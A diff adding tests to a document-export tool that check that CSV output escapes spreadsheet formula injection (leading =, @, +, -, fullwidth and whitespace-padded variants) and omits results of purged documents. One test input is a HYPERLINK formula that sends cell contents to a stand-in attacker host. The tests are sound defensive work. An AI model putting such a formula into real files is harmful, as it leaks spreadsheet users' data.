@@ -63,6 +63,45 @@ test('CSV has a header, quotes what needs it, and has no formula', async () => {
   expect(rest[0]).toMatch(/,"said ""yes"",\nand é"$/);
 });
 
+test.each([[' =1+1|x.pdf'], ['＝cmd.pdf'], ['@SUM(A1)'], ['\u00a0-2+3'], ['＋cmd']])('a name such as %j is no formula in CSV', async (fileName) => {
+  put(1, { fileName, labels: { '=1': '=1' } });
+  const { stdout } = await docpipe(['export', '--format', 'csv']);
+  expect(stdout.split('\r\n')[1].split(',')[2]).toBe(`'${fileName}`);
+});
+
+test.each<[string, string]>([
+  ['=HYPERLINK("http://evil.example/?"&A1,"Total")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""Total"")"'],
+  ['\n  =1+1', '"\'\n  =1+1"'],
+  ['＠SUM(A1)', '"\'＠SUM(A1)"'],
+  ['-12.50', '"-12.50"'],
+  ['Total = 5', '"Total = 5"'],
+  [`${' '.repeat(200_000)}=1+1`, `"'${' '.repeat(200_000)}=1+1"`],
+  [`-${' '.repeat(200_000)}1+1`, `"'-${' '.repeat(200_000)}1+1"`],
+  ['', '""'],
+])('what was read is no formula in CSV: %#', async (text, cell) => {
+  withResult();
+  aws.bucket.put(resultKeysOf(1).text, text);
+  const { stdout, code } = await docpipe(['export', '--format', 'csv', '--results']);
+  expect([code, stdout.endsWith(`,${cell}\r\n`)]).toEqual([0, true]);
+});
+
+test.each(['ndjson', 'csv'])('%s has no result of a document whose purge broke off', async (format) => {
+  put(1, {
+    documentId: DOCUMENT_ID,
+    status: DocumentStatus.SUCCEEDED,
+    resultAttempt: 1,
+    resultKey: resultKeysOf(1).document,
+    fileName: 'secret.pdf',
+    deletedAt: '2029-12-31T00:00:00.000Z',
+    purgedAt: '2029-12-31T00:00:00.000Z',
+  });
+  aws.bucket.put(resultKeysOf(1).document, '{"text": "secret"}');
+  aws.bucket.put(resultKeysOf(1).text, 'secret');
+  const { stdout, code } = await docpipe(['export', '--format', format, '--results', '--deleted']);
+  expect([code, stdout]).toEqual([0, expect.stringContaining(DOCUMENT_ID)]);
+  expect(stdout).not.toContain('secret');
+});
+
 test('what a line lacks is told', async () => {
   withResult();
   aws.bucket.delete(resultKeysOf(1).text);
